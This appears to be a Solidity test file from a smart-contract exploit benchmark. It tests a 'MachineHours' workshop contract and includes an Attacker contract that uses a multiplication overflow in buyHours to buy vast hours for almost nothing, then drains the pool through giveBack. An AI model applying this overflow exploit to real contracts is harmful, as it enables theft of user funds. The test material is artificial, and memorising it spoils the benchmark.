// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./MachineHours.sol";

// assay-canary-bbea4c30-bb6a-4738-9172-cc5f3e7c6c17

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token public token;
    MachineHours private workshop;
    Attacker private mallory;

    function setUp() public {
        token = new Token();
        workshop = new MachineHours(token);
        workshop.add(CAT, 3e18);
        workshop.add(CAT, 5e18);
        token.mint(ANA, 600e18);
        vm.startPrank(ANA);
        token.approve(address(workshop), 600e18);
        workshop.buyHours(0, 100);
        workshop.buyHours(1, 50);
        vm.stopPrank();
        mallory = new Attacker(workshop, token);
        token.mint(address(mallory), 3e18);
    }

    function test_Regular() public {
        require(token.balanceOf(ANA) == 50e18 && workshop.machineLength() == 2, "bought");
        vm.prank(CAT);
        workshop.book(0, ANA, 10);
        vm.prank(CAT);
        workshop.book(1, ANA, 4);
        require(workshop.earned(CAT) == 50e18 && workshop.hoursOf(0, ANA) == 90, "booked");
        vm.prank(CAT);
        workshop.harvest();
        require(token.balanceOf(CAT) == 50e18, "harvested");
        workshop.setOpen(0, false);
        vm.prank(ANA);
        workshop.giveBack(0, 90);
        require(token.balanceOf(ANA) == 320e18 && workshop.hoursOf(0, ANA) == 0, "given back");
        workshop.setOpen(0, true);
        workshop.transferOwnership(BEN);
        vm.prank(BEN);
        workshop.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        workshop.add(ANA, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        workshop.setOpen(0, false);
        vm.expectRevert("book: not the keeper");
        workshop.book(0, ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesOwner() public {
        vm.expectRevert("MachineHours: no token");
        new MachineHours(IERC20(address(0)));
        vm.expectRevert("add: no keeper");
        workshop.add(address(0), 1);
        vm.expectRevert("add: no price");
        workshop.add(CAT, 0);
    }

    function test_RefusesCounts() public {
        vm.startPrank(ANA);
        vm.expectRevert("buyHours: zero");
        workshop.buyHours(0, 0);
        vm.expectRevert("giveBack: zero");
        workshop.giveBack(0, 0);
        vm.expectRevert("giveBack: too many");
        workshop.giveBack(0, 101);
        vm.expectRevert("harvest: zero");
        workshop.harvest();
        vm.stopPrank();
        vm.startPrank(CAT);
        vm.expectRevert("book: zero");
        workshop.book(0, ANA, 0);
        vm.expectRevert("book: too many");
        workshop.book(0, ANA, 101);
        vm.stopPrank();
        workshop.setOpen(0, false);
        vm.prank(ANA);
        vm.expectRevert("buyHours: closed");
        workshop.buyHours(0, 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 503e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(workshop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    MachineHours private workshop;
    IERC20 private token;

    constructor(MachineHours _workshop, IERC20 _token) public {
        workshop = _workshop;
        token = _token;
    }

    function run() external {
        token.approve(address(workshop), 3e18);
        workshop.buyHours(0, uint256(-1) / 3e18 + 1);
        workshop.giveBack(0, token.balanceOf(address(workshop)) / 3e18);
    }
}
